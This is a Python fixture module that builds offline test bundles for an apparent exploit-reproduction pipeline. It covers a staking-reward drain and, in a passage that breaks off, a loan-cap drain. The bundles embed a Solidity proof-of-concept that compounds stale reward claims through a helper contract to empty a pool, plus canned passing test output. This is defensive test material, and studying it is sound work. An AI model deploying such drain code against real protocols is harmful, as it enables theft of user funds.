"""Self-contained incident case bundles for fully offline pipeline runs.

Each builder materializes one incident as a directory of recorded chain
fixtures, scripted role outputs, and canned test-run transcripts, plus an
``expected.json`` stating the counts and artifacts a replay of that bundle
must produce.  The two cases are complementary: the staking-rewards case is
the straight-through path (challenger passes first try, one reproduction),
while the loan-cap case exercises every rejection route the pipeline has
(evidence re-collection plus two distinct PoC rejections).

Every identifier, amount, and block number lives in module constants so the
fixtures, scripts, transcripts, and expectations can never drift apart.
"""

from __future__ import annotations

import json
import logging
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Callable, Iterable

from .agents import ScriptedBackend
from .domain import Address, SeedRef
from .gateway import DataRequest, FixtureStore, ReplayAdapter
from .harness import SimulatedRunner
from .lifecycle import DEFAULT_WINDOW, ParticipantSet

logger = logging.getLogger(__name__)


def _tx(prefix: str, suffix: str) -> str:
    """Full-length transaction hash from a known prefix and suffix."""
    return "0x" + prefix + "0" * (64 - len(prefix) - len(suffix)) + suffix


def _addr(prefix: str, suffix: str = "") -> str:
    return "0x" + prefix + "0" * (40 - len(prefix) - len(suffix)) + suffix


# ==========================================================================
# Case 1: staking-rewards emission drain on Base (chain 8453).

PRXVT_CHAIN = 8453
PRXVT_SEED = _tx("88610208", "5494")
PRXVT_TX_PREPARE = _tx("7cf175", "a5a8")
PRXVT_TX_LOOP_A = _tx("e1a6c6", "47a8")
PRXVT_TX_LOOP_B = _tx("91d8e0", "81f1")
PRXVT_TX_DRAIN = _tx("04c182", "b7ea")
PRXVT_TX_EXIT = _tx("20094a", "7d10")
PRXVT_TX_FILLER_1 = _tx("f111e1", "0001")
PRXVT_TX_FILLER_2 = _tx("f111e2", "0002")

PRXVT_EOA = _addr("7407", "2f45")
PRXVT_ORCH = _addr("7029", "bce9")
PRXVT_HELPER = _addr("f3fe", "410c")
PRXVT_STAKING = _addr("57a6", "c0de")
PRXVT_TOKEN = _addr("c2ff", "4bc0")
PRXVT_BURN = "0x000000000000000000000000000000000000dead"

PRXVT_SEED_BLOCK = 40230818
PRXVT_FORK_BLOCK = PRXVT_SEED_BLOCK - 1

PRXVT_SEL_RUN = "0xe6d7db7e"
PRXVT_SEL_STAKE = "0xa694fc3a"
PRXVT_SEL_TRANSFER = "0xa9059cbb"

#: Reward-token deltas across the seed transaction, in base units.
PRXVT_ORCH_GAIN = 206_730_000_000_000_000_000_000
PRXVT_POOL_LOSS = -229_700_000_000_000_000_000_000
PRXVT_BURN_GAIN = 22_970_000_000_000_000_000_000

#: The six lifecycle transactions, in block order.
PRXVT_LIFECYCLE = (
    (PRXVT_TX_PREPARE, "setup"),
    (PRXVT_SEED, "exploit"),
    (PRXVT_TX_LOOP_A, "exploit"),
    (PRXVT_TX_LOOP_B, "exploit"),
    (PRXVT_TX_DRAIN, "exploit"),
    (PRXVT_TX_EXIT, "exit"),
)

PRXVT_ALL_RELEVANT = (
    PRXVT_TX_PREPARE,
    PRXVT_SEED,
    PRXVT_TX_FILLER_1,
    PRXVT_TX_LOOP_A,
    PRXVT_TX_LOOP_B,
    PRXVT_TX_FILLER_2,
    PRXVT_TX_DRAIN,
    PRXVT_TX_EXIT,
)

#: Stake amount the on-chain adversary used; reproductions must not reuse it.
PRXVT_INCIDENT_STAKE = "13370000000000000000000"

PRXVT_PARTICIPANTS = ParticipantSet(
    origin=Address(PRXVT_EOA),
    adversary_eoas=frozenset({Address(PRXVT_EOA)}),
    adversary_contracts=frozenset({Address(PRXVT_ORCH), Address(PRXVT_HELPER)}),
    victims=frozenset({Address(PRXVT_STAKING)}),
    helpers=frozenset({Address(PRXVT_TOKEN)}),
)

PRXVT_OBSERVATIONS: dict[str, Any] = {
    "pool_balance_before": 240_000_000_000_000_000_000_000,
    "reward_asset": PRXVT_TOKEN,
    "total_staked_before": 5_000_000_000_000_000_000_000_000,
    "total_staked_after": 5_000_000_000_000_000_000_000_000,
    "helper_claimed": 22_970_000_000_000_000_000_000,
    "attacker_token_delta": PRXVT_ORCH_GAIN,
    "staking_token_delta": PRXVT_POOL_LOSS,
}

PRXVT_ORACLE_IDS = (
    "P1_pool_funded_before",
    "H1_reward_asset_identity",
    "H2_total_staked_unchanged",
    "H3_fresh_helper_claims_rewards",
    "S1_attacker_reward_gain",
    "S2_reward_pool_depletion",
)


def _prxvt_txlist_window() -> tuple[int, int]:
    return (PRXVT_SEED_BLOCK - DEFAULT_WINDOW, PRXVT_SEED_BLOCK + DEFAULT_WINDOW)


def _record(
    txhash: str,
    block: int,
    to: str | None,
    selector: str | None,
    value: int = 0,
    gas_used: int = 210_000,
    gas_price: int = 5_000_000,
    sender: str = PRXVT_EOA,
) -> dict[str, Any]:
    return {
        "txhash": txhash,
        "block_number": block,
        "from": sender,
        "to": to,
        "selector": selector,
        "value": value,
        "gas_used": gas_used,
        "effective_gas_price": gas_price,
        "status": True,
        "index": 0,
    }


#: Every adversary-originated transaction in the mined window, block order.
PRXVT_UNIVERSE = (
    _record(PRXVT_TX_PREPARE, 40230800, PRXVT_STAKING, PRXVT_SEL_STAKE),
    _record(PRXVT_SEED, PRXVT_SEED_BLOCK, PRXVT_ORCH, PRXVT_SEL_RUN, gas_used=1_850_000),
    _record(PRXVT_TX_FILLER_1, 40230830, PRXVT_ORCH, PRXVT_SEL_RUN),
    _record(PRXVT_TX_LOOP_A, 40230840, PRXVT_HELPER, PRXVT_SEL_RUN),
    _record(PRXVT_TX_LOOP_B, 40230850, PRXVT_HELPER, PRXVT_SEL_RUN),
    _record(PRXVT_TX_FILLER_2, 40230860, PRXVT_ORCH, PRXVT_SEL_RUN),
    _record(PRXVT_TX_DRAIN, 40230870, PRXVT_ORCH, PRXVT_SEL_RUN, gas_used=1_420_000),
    _record(PRXVT_TX_EXIT, 40230900, PRXVT_TOKEN, PRXVT_SEL_TRANSFER),
)


def _prxvt_seed_trace() -> dict[str, Any]:
    return {
        "root": {
            "call_type": "CALL",
            "from": PRXVT_EOA,
            "to": PRXVT_ORCH,
            "value": 0,
            "gas_used": 1_850_000,
            "selector": PRXVT_SEL_RUN,
            "error": None,
            "children": [
                {
                    "call_type": "CALL",
                    "from": PRXVT_ORCH,
                    "to": PRXVT_STAKING,
                    "value": 0,
                    "gas_used": 140_000,
                    "selector": PRXVT_SEL_STAKE,
                    "error": None,
                    "children": [],
                },
                {
                    "call_type": "CALL",
                    "from": PRXVT_ORCH,
                    "to": PRXVT_HELPER,
                    "value": 0,
                    "gas_used": 1_200_000,
                    "selector": "0x1cff79cd",
                    "error": None,
                    "children": [
                        {
                            "call_type": "CALL",
                            "from": PRXVT_HELPER,
                            "to": PRXVT_STAKING,
                            "value": 0,
                            "gas_used": 900_000,
                            "selector": "0x372500ab",
                            "error": None,
                            "children": [
                                {
                                    "call_type": "CALL",
                                    "from": PRXVT_STAKING,
                                    "to": PRXVT_TOKEN,
                                    "value": 0,
                                    "gas_used": 60_000,
                                    "selector": PRXVT_SEL_TRANSFER,
                                    "error": None,
                                    "children": [],
                                }
                            ],
                        }
                    ],
                },
                {
                    "call_type": "CALL",
                    "from": PRXVT_ORCH,
                    "to": PRXVT_TOKEN,
                    "value": 0,
                    "gas_used": 60_000,
                    "selector": PRXVT_SEL_TRANSFER,
                    "error": None,
                    "children": [],
                },
            ],
        }
    }


def _prxvt_seed_balance_diff() -> dict[str, Any]:
    return {
        "entries": [
            {"address": PRXVT_ORCH, "asset": PRXVT_TOKEN, "delta": PRXVT_ORCH_GAIN, "decimals": 18},
            {"address": PRXVT_STAKING, "asset": PRXVT_TOKEN, "delta": PRXVT_POOL_LOSS, "decimals": 18},
            {"address": PRXVT_BURN, "asset": PRXVT_TOKEN, "delta": PRXVT_BURN_GAIN, "decimals": 18},
        ]
    }


def _tx_metadata(
    txhash: str,
    chainid: int,
    block: int,
    sender: str,
    to: str,
    selector: str,
    gas_used: int,
    gas_price: int,
) -> dict[str, Any]:
    return {
        "txhash": txhash,
        "chainid": chainid,
        "block_number": block,
        "block_number_hex": hex(block),
        "from": sender,
        "to": to,
        "selector": selector,
        "value": 0,
        "gas_used": gas_used,
        "effective_gas_price": gas_price,
        "gas_price_hex": hex(gas_price),
        "status": True,
        "nonce": 7,
    }


def _contract_meta(
    address: str,
    chainid: int,
    verified: bool,
    source_kind: str,
    name: str | None,
    content: str,
    implementation: str | None = None,
) -> dict[str, Any]:
    return {
        "address": address,
        "chainid": chainid,
        "verified": verified,
        "source_kind": source_kind,
        "name": name,
        "content": content,
        "implementation": implementation,
    }


_PRXVT_STAKING_SOURCE = """\
// Verified source (excerpt): reward accounting for the staking pool.
contract PRXVTStaking {
    mapping(address => uint256) public multiplierOf;

    function claimRewards(address beneficiary) external {
        // BUG: the multiplier is read before it is consumed, so a caller
        // that re-enters through a fresh helper compounds it per claim.
        uint256 owed = staked[msg.sender] * multiplierOf[msg.sender];
        multiplierOf[msg.sender] = baseMultiplier();
        rewardAsset.transfer(beneficiary, owed);
    }
}
"""

_PRXVT_TOKEN_SOURCE = """\
// Verified source (excerpt): transfer hook keeps a burn tithe.
contract AgentTokenV2 {
    function transfer(address to, uint256 amount) public returns (bool) {
        uint256 tithe = amount / 10;
        _move(msg.sender, BURN, tithe);
        _move(msg.sender, to, amount - tithe);
        return true;
    }
}
"""


def _prxvt_fixture_items() -> list[tuple[DataRequest, dict[str, Any]]]:
    chain = PRXVT_CHAIN
    lo, hi = _prxvt_txlist_window()
    items: list[tuple[DataRequest, dict[str, Any]]] = []

    # Seed bootstrap artifacts.
    items.append(
        (
            DataRequest(kind="tx_metadata", chainid=chain, target=PRXVT_SEED),
            _tx_metadata(
                PRXVT_SEED, chain, PRXVT_SEED_BLOCK, PRXVT_EOA, PRXVT_ORCH,
                PRXVT_SEL_RUN, 1_850_000, 5_000_000,
            ),
        )
    )
    items.append(
        (DataRequest(kind="tx_trace", chainid=chain, target=PRXVT_SEED), _prxvt_seed_trace())
    )
    items.append(
        (
            DataRequest(kind="balance_diff", chainid=chain, target=PRXVT_SEED),
            _prxvt_seed_balance_diff(),
        )
    )

    # Lifecycle-mining transaction lists for the adversary-side accounts.
    by_party = {
        PRXVT_EOA: list(PRXVT_UNIVERSE),
        PRXVT_ORCH: [r for r in PRXVT_UNIVERSE if r["to"] == PRXVT_ORCH],
        PRXVT_HELPER: [r for r in PRXVT_UNIVERSE if r["to"] == PRXVT_HELPER],
    }
    for account, records in by_party.items():
        items.append(
            (
                DataRequest(
                    kind="txlist", chainid=chain, target=account, block_lo=lo, block_hi=hi
                ),
                {"records": records},
            )
        )

    # First analyst batch: neighboring transactions.
    for txhash in (PRXVT_TX_PREPARE, PRXVT_TX_LOOP_A):
        items.append(
            (
                DataRequest(kind="tx_trace", chainid=chain, target=txhash),
                {
                    "root": {
                        "call_type": "CALL",
                        "from": PRXVT_EOA,
                        "to": PRXVT_STAKING if txhash == PRXVT_TX_PREPARE else PRXVT_HELPER,
                        "value": 0,
                        "gas_used": 180_000,
                        "selector": PRXVT_SEL_STAKE
                        if txhash == PRXVT_TX_PREPARE
                        else PRXVT_SEL_RUN,
                        "error": None,
                        "children": [],
                    }
                },
            )
        )
        items.append(
            (
                DataRequest(kind="balance_diff", chainid=chain, target=txhash),
                {
                    "entries": [
                        {
                            "address": PRXVT_STAKING,
                            "asset": PRXVT_TOKEN,
                            "delta": -1_200_000_000_000_000_000_000,
                            "decimals": 18,
                        },
                        {
                            "address": PRXVT_ORCH,
                            "asset": PRXVT_TOKEN,
                            "delta": 1_080_000_000_000_000_000_000,
                            "decimals": 18,
                        },
                        {
                            "address": PRXVT_BURN,
                            "asset": PRXVT_TOKEN,
                            "delta": 120_000_000_000_000_000_000,
                            "decimals": 18,
                        },
                    ]
                    if txhash != PRXVT_TX_PREPARE
                    else [
                        {
                            "address": PRXVT_STAKING,
                            "asset": PRXVT_TOKEN,
                            "delta": 13_370_000_000_000_000_000_000,
                            "decimals": 18,
                        },
                        {
                            "address": PRXVT_EOA,
                            "asset": PRXVT_TOKEN,
                            "delta": -13_370_000_000_000_000_000_000,
                            "decimals": 18,
                        },
                    ]
                },
            )
        )
    # Seed context: every contract the seed trace calls.
    items.append(
        (
            DataRequest(kind="contract_meta", chainid=chain, target=PRXVT_ORCH),
            _contract_meta(PRXVT_ORCH, chain, False, "bytecode", None, "0x6080604052348015"),
        )
    )
    items.append(
        (
            DataRequest(kind="contract_meta", chainid=chain, target=PRXVT_STAKING),
            _contract_meta(
                PRXVT_STAKING, chain, True, "verified_source", "PRXVTStaking",
                _PRXVT_STAKING_SOURCE,
            ),
        )
    )
    items.append(
        (
            DataRequest(kind="contract_meta", chainid=chain, target=PRXVT_TOKEN),
            _contract_meta(
                PRXVT_TOKEN, chain, True, "verified_source", "AgentTokenV2",
                _PRXVT_TOKEN_SOURCE,
            ),
        )
    )
    items.append(
        (
            DataRequest(kind="contract_meta", chainid=chain, target=PRXVT_HELPER),
            _contract_meta(PRXVT_HELPER, chain, False, "bytecode", None, "0x60a060405260043610"),
        )
    )

    # Second analyst batch: remaining lifecycle traces and pool state.
    for txhash, counterparty in (
        (PRXVT_TX_LOOP_B, PRXVT_HELPER),
        (PRXVT_TX_DRAIN, PRXVT_ORCH),
        (PRXVT_TX_EXIT, PRXVT_TOKEN),
    ):
        items.append(
            (
                DataRequest(kind="tx_trace", chainid=chain, target=txhash),
                {
                    "root": {
                        "call_type": "CALL",
                        "from": PRXVT_EOA,
                        "to": counterparty,
                        "value": 0,
                        "gas_used": 400_000,
                        "selector": PRXVT_SEL_TRANSFER
                        if counterparty == PRXVT_TOKEN
                        else PRXVT_SEL_RUN,
                        "error": None,
                        "children": [],
                    }
                },
            )
        )
        items.append(
            (
                DataRequest(kind="balance_diff", chainid=chain, target=txhash),
                {
                    "entries": [
                        {
                            "address": PRXVT_EOA if counterparty == PRXVT_TOKEN else PRXVT_ORCH,
                            "asset": PRXVT_TOKEN,
                            "delta": 9_000_000_000_000_000_000_000,
                            "decimals": 18,
                        },
                        {
                            "address": counterparty
                            if counterparty != PRXVT_TOKEN
                            else PRXVT_ORCH,
                            "asset": PRXVT_TOKEN,
                            "delta": -9_000_000_000_000_000_000_000,
                            "decimals": 18,
                        },
                    ]
                },
            )
        )
    items.append(
        (
            DataRequest(kind="tx_metadata", chainid=chain, target=PRXVT_TX_PREPARE),
            _tx_metadata(
                PRXVT_TX_PREPARE, chain, 40230800, PRXVT_EOA, PRXVT_STAKING,
                PRXVT_SEL_STAKE, 180_000, 5_000_000,
            ),
        )
    )
    items.append(
        (
            DataRequest(
                kind="storage_slot",
                chainid=chain,
                target=PRXVT_STAKING,
                extra={"slot": "0x0", "block": PRXVT_FORK_BLOCK},
            ),
            {"value_hex": hex(PRXVT_OBSERVATIONS["total_staked_before"])},
        )
    )
    return items


def _prxvt_requests_batch_1() -> list[DataRequest]:
    chain = PRXVT_CHAIN
    lo, hi = _prxvt_txlist_window()
    return [
        DataRequest(kind="tx_trace", chainid=chain, target=PRXVT_TX_PREPARE,
                    reason="confirm the dust stake that opens the reward account"),
        DataRequest(kind="balance_diff", chainid=chain, target=PRXVT_TX_PREPARE,
                    reason="principal flow of the preparatory stake"),
        DataRequest(kind="tx_trace", chainid=chain, target=PRXVT_TX_LOOP_A,
                    reason="first claim routed through the helper"),
        DataRequest(kind="balance_diff", chainid=chain, target=PRXVT_TX_LOOP_A,
                    reason="reward flow per helper claim"),
        DataRequest(kind="txlist", chainid=chain, target=PRXVT_EOA,
                    block_lo=lo, block_hi=hi,
                    reason="full adversary activity around the seed"),
    ]


def _prxvt_requests_batch_2() -> list[DataRequest]:
    chain = PRXVT_CHAIN
    return [
        DataRequest(kind="tx_trace", chainid=chain, target=PRXVT_TX_LOOP_B,
                    reason="second helper claim"),
        DataRequest(kind="balance_diff", chainid=chain, target=PRXVT_TX_LOOP_B,
                    reason="reward flow of the second claim"),
        DataRequest(kind="tx_trace", chainid=chain, target=PRXVT_TX_DRAIN,
                    reason="final drain through the entrypoint"),
        DataRequest(kind="balance_diff", chainid=chain, target=PRXVT_TX_DRAIN,
                    reason="pool depletion at the drain"),
        DataRequest(kind="tx_trace", chainid=chain, target=PRXVT_TX_EXIT,
                    reason="proceeds exit to the reward token"),
        DataRequest(kind="balance_diff", chainid=chain, target=PRXVT_TX_EXIT,
                    reason="where the haul lands after the drain"),
        DataRequest(kind="tx_metadata", chainid=chain, target=PRXVT_TX_PREPARE,
                    reason="timing of the preparatory stake"),
        DataRequest(kind="storage_slot", chainid=chain, target=PRXVT_STAKING,
                    extra={"slot": "0x0", "block": PRXVT_FORK_BLOCK},
                    reason="totalStaked at the fork block"),
    ]


def _prxvt_root_cause() -> dict[str, Any]:
    return {
        "chainid": PRXVT_CHAIN,
        "seed": [PRXVT_SEED],
        "act": {
            "is_act": True,
            "predicate": (
                "reward-token margin 206730000000000000000000 base units > 0 for any "
                "caller that stakes dust and routes claims through a fresh helper; "
                "standard transaction submission only"
            ),
        },
        "lifecycle": [{"txhash": h, "phase": p} for h, p in PRXVT_LIFECYCLE],
        "all_relevant_txs": list(PRXVT_ALL_RELEVANT),
        "roles": {
            "attacker_eoas": [PRXVT_EOA],
            "attacker_contracts": [PRXVT_ORCH, PRXVT_HELPER],
            "victim_contracts": [PRXVT_STAKING],
            "helpers": [PRXVT_TOKEN],
        },
        "mechanism": (
            "The staking pool prices pending rewards from a per-account multiplier "
            "that is read before it is reset, so claims routed through a helper "
            "contract compound the multiplier once per claim. Six transactions "
            "stake dust, loop claims through the helper, drain the emission "
            "reserve, and sweep the reward token out; principal never moves and "
            "the token's transfer hook tithes a tenth of each drain to the burn "
            "address."
        ),
        "violated_invariant": (
            "Claimed rewards must never exceed emissions accrued to the claimant's "
            "staked principal."
        ),
        "fork_block": PRXVT_FORK_BLOCK,
        "incident_constants": [PRXVT_INCIDENT_STAKE],
        "evidence": [
            "artifacts/root_cause/seed/8453/" + PRXVT_SEED + "/trace.json",
            "artifacts/root_cause/data_collector/iter_1",
            "artifacts/root_cause/data_collector/iter_2",
        ],
    }


def _analysis_doc(
    summary: str,
    hypothesis: str,
    contracts: list[str],
    relevant: list[str],
    requests: list[DataRequest],
    root_cause: dict[str, Any] | None = None,
) -> dict[str, Any]:
    doc: dict[str, Any] = {
        "summary": summary,
        "hypothesis": hypothesis,
        "candidate_contracts": contracts,
        "candidate_roles": {},
        "all_relevant_txs": relevant,
        "data_requests": [r.to_doc() for r in requests],
    }
    if root_cause is not None:
        doc["root_cause"] = root_cause
        doc["candidate_roles"] = root_cause["roles"]
    return doc


def _prxvt_oracle_definition_doc() -> dict[str, Any]:
    return {
        "chainid": PRXVT_CHAIN,
        "fork_block": PRXVT_FORK_BLOCK,
        "variables": [
            {"name": "staking_pool", "kind": "victim_contract", "address": PRXVT_STAKING},
            {"name": "reward_token", "kind": "asset", "address": PRXVT_TOKEN},
            {"name": "attacker", "kind": "attacker_role", "address": None},
            {"name": "fresh_helper", "kind": "helper_role", "address": None},
        ],
        "pre_check": [
            {
                "id": "P1_pool_funded_before",
                "check": {"lhs": "pool_balance_before", "comparator": "gt", "rhs": "0"},
                "description": "the pool still holds reward reserves at the fork block",
            }
        ],
        "hard": [
            {
                "id": "H1_reward_asset_identity",
                "check": {"lhs": "reward_asset", "comparator": "eq", "rhs": PRXVT_TOKEN},
                "description": "the drained asset is the pool's configured reward token",
            },
            {
                "id": "H2_total_staked_unchanged",
                "check": {
                    "lhs": "total_staked_after",
                    "comparator": "eq",
                    "rhs": "total_staked_before",
                },
                "description": "principal never moves; the drain is pure emission",
            },
            {
                "id": "H3_fresh_helper_claims_rewards",
                "check": {"lhs": "helper_claimed", "comparator": "gt", "rhs": "0"},
                "description": "a helper deployed in the test claims a nonzero reward",
            },
        ],
        "soft": [
            {
                "id": "S1_attacker_reward_gain",
                "check": {
                    "lhs": "attacker_token_delta",
                    "comparator": "ge",
                    "rhs": "200000000000000000000000",
                },
                "description": "reward haul on the incident's scale",
                "tolerance": {
                    "kind": "relative_bps",
                    "value": 1000,
                    "rationale": "gas and tithe variation between fork and incident",
                },
            },
            {
                "id": "S2_reward_pool_depletion",
                "check": {
                    "lhs": "staking_token_delta",
                    "comparator": "le",
                    "rhs": "-220000000000000000000000",
                },
                "description": "the pool loses close to its whole reward reserve",
            },
        ],
        "success_criteria": (
            "From fresh addresses on a fork at block 40230817, stake dust, compound "
            "the reward multiplier through a newly deployed helper, and drain at "
            "least ninety percent of the reward reserve without moving principal."
        ),
        "setup": (
            "createSelectFork at FORK_BLOCK; attacker and helper identities from "
            "makeAddr; no incident-side contract or constant reused."
        ),
    }


_PRXVT_EXPLOIT_SOL = """\
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Test} from "forge-std/Test.sol";
import {console2} from "forge-std/console2.sol";
import {RewardLooper} from "../src/RewardLooper.sol";

interface IERC20 {
    function balanceOf(address holder) external view returns (uint256);
}

interface IStakingPool {
    function stake(uint256 amount) external;
    function totalStaked() external view returns (uint256);
    function rewardAsset() external view returns (address);
}

/// Reward-emission drain of the staking pool.
///
/// The pool credits pending rewards from a per-account multiplier that any
/// caller can compound by bouncing claims through a freshly deployed looper
/// contract. Staked principal never moves; the drain is pure emission, so
/// total staked before and after must be identical while the reward token
/// flows out to addresses this test controls.
contract ExploitTest is Test {
    // Fork pin: the parent block of the first exploit transaction.
    uint256 constant FORK_BLOCK = __FORK_BLOCK__;

    IStakingPool constant POOL = IStakingPool(__POOL__);
    IERC20 constant REWARD = IERC20(__TOKEN__);

    address attacker;
    RewardLooper looper;

    function setUp() public {
        vm.createSelectFork(vm.envString("RPC_URL"), FORK_BLOCK);
        // Fresh, deterministic identities: nothing incident-side is reused.
        attacker = makeAddr("attacker");
        vm.label(address(POOL), "StakingPool");
        vm.label(address(REWARD), "RewardToken");
        vm.deal(attacker, 1 ether);
        vm.startPrank(attacker);
        looper = new RewardLooper(address(POOL), address(REWARD));
        vm.label(address(looper), "RewardLooper");
        vm.stopPrank();
    }

    function testExploit() public {
        uint256 poolBefore = REWARD.balanceOf(address(POOL));
        uint256 stakedBefore = POOL.totalStaked();
        console2.log("OBS pool_balance_before=%s", poolBefore);

        vm.startPrank(attacker);
        // Stake a trivial amount once, then compound the reward multiplier
        // until the pool's emission accounting exceeds its reserves.
        looper.primeWithDust();
        looper.compound(6);
        uint256 claimed = looper.harvest(attacker);
        vm.stopPrank();

        uint256 stakedAfter = POOL.totalStaked();
        uint256 poolAfter = REWARD.balanceOf(address(POOL));
        uint256 gain = REWARD.balanceOf(attacker) + REWARD.balanceOf(address(looper));

        // Success predicate: principal untouched, reserves drained to us.
        assertEq(stakedAfter, stakedBefore, "principal must not move");
        assertGt(claimed, 0, "looper claimed nothing");
        assertGt(gain, 200_000e18, "reward haul below incident scale");
        assertLt(poolAfter, poolBefore, "pool reserves did not fall");

        console2.log("OBS reward_asset=%s", POOL.rewardAsset());
        console2.log("OBS total_staked_before=%s", stakedBefore);
        console2.log("OBS total_staked_after=%s", stakedAfter);
        console2.log("OBS helper_claimed=%s", claimed);
        console2.log("OBS attacker_token_delta=%s", gain);
        console2.log("OBS staking_token_delta=-%s", poolBefore - poolAfter);
    }
}
""".replace("__FORK_BLOCK__", str(PRXVT_FORK_BLOCK)).replace(
    "__POOL__", PRXVT_STAKING
).replace("__TOKEN__", PRXVT_TOKEN)

_PRXVT_LOOPER_SOL = """\
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface IStakingPoolLoop {
    function stake(uint256 amount) external;
    function claimRewards(address beneficiary) external;
}

interface IERC20Min {
    function balanceOf(address holder) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
}

/// Claim-loop helper deployed fresh by the test; it stands in for the
/// incident's helper without touching any incident-side state.
contract RewardLooper {
    IStakingPoolLoop immutable pool;
    IERC20Min immutable reward;
    address immutable owner;

    constructor(address pool_, address reward_) {
        pool = IStakingPoolLoop(pool_);
        reward = IERC20Min(reward_);
        owner = msg.sender;
    }

    /// Stake a dust amount so the pool opens a reward account for us.
    function primeWithDust() external {
        require(msg.sender == owner, "owner only");
        pool.stake(1);
    }

    /// Each claim re-reads the stale multiplier before the pool resets it,
    /// so repeated claims grow the emission geometrically.
    function compound(uint256 rounds) external {
        require(msg.sender == owner, "owner only");
        for (uint256 i = 0; i < rounds; i++) {
            pool.claimRewards(address(this));
        }
    }

    /// Sweep everything claimed so far to the beneficiary.
    function harvest(address beneficiary) external returns (uint256 claimed) {
        require(msg.sender == owner, "owner only");
        claimed = reward.balanceOf(address(this));
        reward.transfer(beneficiary, claimed);
    }
}
"""

_PRXVT_RUN_0 = """\
Compiling 21 files with Solc 0.8.24
Compiler run successful!

Ran 1 test for test/Exploit.sol:ExploitTest
[PASS] testExploit() (gas: 2184302)
Logs:
  OBS pool_balance_before=240000000000000000000000
  OBS reward_asset=__TOKEN__
  OBS total_staked_before=5000000000000000000000000
  OBS total_staked_after=5000000000000000000000000
  OBS helper_claimed=22970000000000000000000
  OBS attacker_token_delta=206730000000000000000000
  OBS staking_token_delta=-229700000000000000000000
  Reward haul (attacker + looper): 206730000000000000000000

Suite result: ok. 1 passed; 0 failed; 0 skipped; finished in 3.42s (1.88s CPU time)

Ran 1 test suite in 3.42s: 1 tests passed, 0 failed, 0 skipped (1 total tests)
""".replace("__TOKEN__", PRXVT_TOKEN)


def _prxvt_script_entries() -> dict[str, list[dict[str, Any]]]:
    final = _analysis_doc(
        summary=(
            "Reward-emission drain confirmed: six transactions stake dust, "
            "compound a stale reward multiplier through a helper, and sweep the "
            "pool's reserve; principal never moves."
        ),
        hypothesis="stale per-account multiplier is re-read once per claim",
        contracts=[PRXVT_ORCH, PRXVT_STAKING, PRXVT_TOKEN, PRXVT_HELPER],
        relevant=list(PRXVT_ALL_RELEVANT),
        requests=[],
        root_cause=_prxvt_root_cause(),
    )
    return {
        "root_cause_analyzer": [
            _analysis_doc(
                summary=(
                    "Seed call drains the staking pool's reward token to the "
                    "entrypoint contract while a tenth burns; need the "
                    "preparatory stake, the helper path, and the adversary's "
                    "activity around the seed."
                ),
                hypothesis="reward accounting inflated through repeated claims",
                contracts=[PRXVT_ORCH, PRXVT_STAKING, PRXVT_TOKEN],
                relevant=[PRXVT_SEED],
                requests=_prxvt_requests_batch_1(),
            ),
            _analysis_doc(
                summary=(
                    "Helper claims compound a multiplier the pool resets too "
                    "late; need the remaining lifecycle traces and the pool's "
                    "staked total at the fork block."
                ),
                hypothesis="stale multiplier read before reset",
                contracts=[PRXVT_ORCH, PRXVT_STAKING, PRXVT_TOKEN, PRXVT_HELPER],
                relevant=[PRXVT_SEED, PRXVT_TX_PREPARE, PRXVT_TX_LOOP_A],
                requests=_prxvt_requests_batch_2(),
            ),
            final,
        ],
        "root_cause_challenger": [
            {
                "status": "Pass",
                "feedback": (
                    "Every mechanism claim cites a fetched artifact; the lifecycle "
                    "endpoints are corroborated by traces and balance diffs, and "
                    "the profit predicate is computed from recorded deltas."
                ),
                "missing_evidence": [],
            }
        ],
        "oracle_generator": [_prxvt_oracle_definition_doc()],
        "poc_reproducer": [
            {
                "files": {
                    "test/Exploit.sol": _PRXVT_EXPLOIT_SOL,
                    "src/RewardLooper.sol": _PRXVT_LOOPER_SOL,
                },
                "notes": "fresh looper helper; dust stake differs from the incident's",
            }
        ],
        "poc_validator": [
            {
                "overall_status": "Pass",
                "oracle_results": [
                    {"id": oid, "satisfied": True} for oid in PRXVT_ORACLE_IDS
                ],
                "rubric": {
                    "correctness": "compiles, runs clean, fork pinned",
                    "taint": "no attacker-side address or constant in the project",
                },
            }
        ],
    }


# ==========================================================================
# Case 2: loan-cap disparity drain on Ethereum (chain 1).

VAL_CHAIN = 1
VAL_SEED = _tx("7f140643", "e3395c")
VAL_TX_DEPLOY = _tx("de9107", "c4ee")

VAL_EOA = _addr("ed5a")
VAL_EOA_2 = _addr("3963")
VAL_ROUTER = _addr("88f5")
VAL_OFFICER = _addr("8357")
VAL_PROXY = _addr("7b4d")
VAL_REGISTRAR = _addr("57dc")
VAL_WETH9 = "0xc02aaa39b223fe8d0a0e5c4f27ead9083c756cc2"
VAL_PAXG = "0x45804880de22913dafe09f4980848ece6ecbaf78"
VAL_VY = _addr("a1ce", "beef")

VAL_SEED_BLOCK = 0x17084CF
VAL_FORK_BLOCK = VAL_SEED_BLOCK - 1
VAL_GAS_PRICE = 0x5F5E100
VAL_GAS_USED = 3_166_000

#: Profit accounting for the monetary predicate, in wei.
VAL_VALUE_BEFORE = 18_498_100_000_000_000_000
VAL_VALUE_AFTER = 40_616_800_000_000_000_000
VAL_FEES = VAL_GAS_USED * VAL_GAS_PRICE
VAL_MARGIN = VAL_VALUE_AFTER - VAL_VALUE_BEFORE - VAL_FEES

#: Native-asset deltas across the seed transaction, in wei.
VAL_WETH9_LOSS = -22_118_820_977_400_000_000
VAL_EOA_GAIN = 20_230_504_376_700_000_000
VAL_EOA2_GAIN = 1_888_200_014_300_000_000

VAL_CAP_BEFORE = 30_075_643_081_474_703_341_424
VAL_CAP_AFTER = 1_275_422_219_460_269_402_561_279
VAL_VY_SUPPLY_BEFORE = 1_000_000_000_000_000_000_000_000
VAL_VY_SUPPLY_DELTA = 39_645_619_576_378_794_699_219_855
VAL_VY_SUPPLY_AFTER = VAL_VY_SUPPLY_BEFORE + VAL_VY_SUPPLY_DELTA

VAL_INCIDENT_SWAP = "24999000000000000000000"

VAL_OBSERVATIONS: dict[str, Any] = {
    "vy_total_supply_before": VAL_VY_SUPPLY_BEFORE,
    "vy_total_supply_after": VAL_VY_SUPPLY_AFTER,
    "paxg_cap_before": VAL_CAP_BEFORE,
    "paxg_cap_after": VAL_CAP_AFTER,
    "paxg_collateral_after": 945_000_000_000_000_000_000_000,
    "loan_opened": True,
    "attacker_eth_delta": 1_888_000_000_000_000_000,
